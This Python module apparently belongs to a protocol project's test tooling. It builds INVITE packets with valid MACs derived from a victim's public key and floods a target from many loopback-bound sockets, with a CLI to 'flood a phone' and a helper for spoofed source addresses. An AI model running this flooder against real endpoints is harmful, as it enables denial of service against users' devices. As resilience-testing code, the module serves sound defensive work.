"""INVITE flooders built from the product's wire format and mac code.

- `garbage_invite`: random bytes shaped like an INVITE; its mac1 is wrong (the sender does
  not know whom it calls).
- `keyed_invite`: an INVITE with a valid mac1 for the victim's public key (published in
  its rendezvous records, so any stranger knows it) around a random Noise message: it
  passes the cheap check and would cost a DH if the victim let it.
Both are sent from spoofed source addresses that never read a reply.
"""

from __future__ import annotations

import random

from pysnac.call import wire
from pysnac.call.macs import InviteMacs
from pysnac.channel.limits import PROTOCOL_VERSION

NOISE_BYTES = 180  # about a real IK first message with a short name


def garbage_invite(rng: random.Random) -> bytes:
    body = wire.encode_invite_body(
        PROTOCOL_VERSION, rng.randbytes(8), rng.getrandbits(32), rng.randbytes(NOISE_BYTES)
    )
    return body + rng.randbytes(wire.INVITE_MACS_BYTES)


def keyed_invite(rng: random.Random, macs: InviteMacs) -> bytes:
    body = wire.encode_invite_body(
        PROTOCOL_VERSION, rng.randbytes(8), rng.getrandbits(32), rng.randbytes(NOISE_BYTES)
    )
    return macs.seal(body, None)


def spoofed_source(rng: random.Random) -> tuple[str, int]:
    return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}", rng.randrange(
        1024, 65536
    )


def flood(target: tuple[str, int], public_key: bytes, rate_per_s: float, seconds: float) -> int:
    """Send keyed INVITEs at `rate_per_s` from 64 sockets on 127.0.1.x that never read."""
    import socket
    import threading
    import time

    rng = random.Random(5)
    macs = InviteMacs(public_key)
    socks = []
    for n in range(64):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((f"127.0.1.{n + 1}", 0))
        socks.append(sock)
    batch = max(1, int(rate_per_s / 100))  # 100 bursts a second
    pause = threading.Event()
    sent = 0
    start = time.monotonic()
    try:
        while (elapsed := time.monotonic() - start) < seconds:
            due = int(elapsed * rate_per_s)
            while sent < due:
                for _ in range(min(batch, due - sent)):
                    socks[sent % len(socks)].sendto(keyed_invite(rng, macs), target)
                    sent += 1
            pause.wait(0.005)
    finally:
        for sock in socks:
            sock.close()
    return sent


def main(argv: list[str] | None = None) -> int:
    import argparse
    import base64

    parser = argparse.ArgumentParser(description="flood a phone with keyed INVITEs")
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--key", required=True, help="the victim's public key, base64")
    parser.add_argument("--rate", type=float, default=5000.0)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args(argv)
    host, port = args.target.rsplit(":", 1)
    sent = flood((host, int(port)), base64.b64decode(args.key), args.rate, args.seconds)
    print(f"sent {sent} keyed INVITEs in {args.seconds} s", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
